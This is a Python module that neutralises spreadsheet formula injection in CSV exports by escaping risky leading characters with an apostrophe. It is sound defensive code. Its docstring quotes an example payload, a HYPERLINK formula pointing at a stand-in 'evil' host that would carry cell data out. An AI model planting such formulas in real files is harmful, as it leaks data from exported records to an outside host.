"""CSV cells that are safe to open in a spreadsheet: the one rule for every CSV cardsvc writes.

**Formula injection.** Excel, LibreOffice and Google Sheets run a cell that begins with ``=``,
``+``, ``-`` or ``@`` as a formula (some also after a leading tab or carriage return). A supplier
code such as ``=HYPERLINK("http://evil/?"&A1)`` in an export would become a live formula in the
very file that holds every code. So every *text* cell that begins with one of
:data:`FORMULA_PREFIXES` gets a leading apostrophe, which spreadsheets show as text and hide
(OWASP's advice). A text that itself begins with an apostrophe gets one more, so the rule can be
undone exactly: **a reader strips exactly one leading apostrophe from a cell that has one**
(:func:`restore`), and gets the original text back, whatever it was. Numbers (``int``,
``Decimal``) are written as they are: they cannot be formulas, and ``-1250`` must stay a number.

Every CSV writer in cardsvc (exports, batch reports, statements, the web layer's downloads) goes
through :func:`cell` / :func:`safe_row`; files meant for machines say so in a first comment line
(:data:`RULE_COMMENT`). Stdlib only (floor 0).
"""

from __future__ import annotations

from collections.abc import Iterable
from decimal import Decimal

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
"""Leading characters that make a spreadsheet run a cell as a formula."""
ESCAPE = "'"
"""The leading character that keeps a cell text; also escaped itself, so the rule reverses."""
RULE_COMMENT = ("# text cells beginning with = + - @ tab CR or ' carry one extra leading ' "
                "(strip exactly one leading ' to get the original text)")
"""The comment line that names the rule in files read by machines (exports)."""

Cell = str | int | Decimal | None


def neutralise(text: str) -> str:
    """``text`` with a leading apostrophe when a spreadsheet would run it as a formula, or when
    it begins with an apostrophe already (so :func:`restore` is its exact inverse). Pure.

    >>> neutralise("=1+1"), neutralise("'x"), neutralise("ABC-1")
    ("'=1+1", "''x", 'ABC-1')
    """
    if text.startswith(FORMULA_PREFIXES) or text.startswith(ESCAPE):
        return ESCAPE + text
    return text


def restore(text: str) -> str:
    """The original text of a cell written by :func:`neutralise`: one leading apostrophe
    removed, if there is one. Pure."""
    return text[1:] if text.startswith(ESCAPE) else text


def cell(value: Cell) -> str:
    """One cell's text: numbers as they are, None as empty, text neutralised. Raises
    ValueError for a bool (say what it means in text)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        raise ValueError("booleans are not CSV cells; say what they mean in text")
    if isinstance(value, int | Decimal):
        return str(value)
    return neutralise(value)


def safe_row(values: Iterable[Cell]) -> list[str]:
    """A row of cells for ``csv.writer.writerow``, each through :func:`cell`."""
    return [cell(value) for value in values]
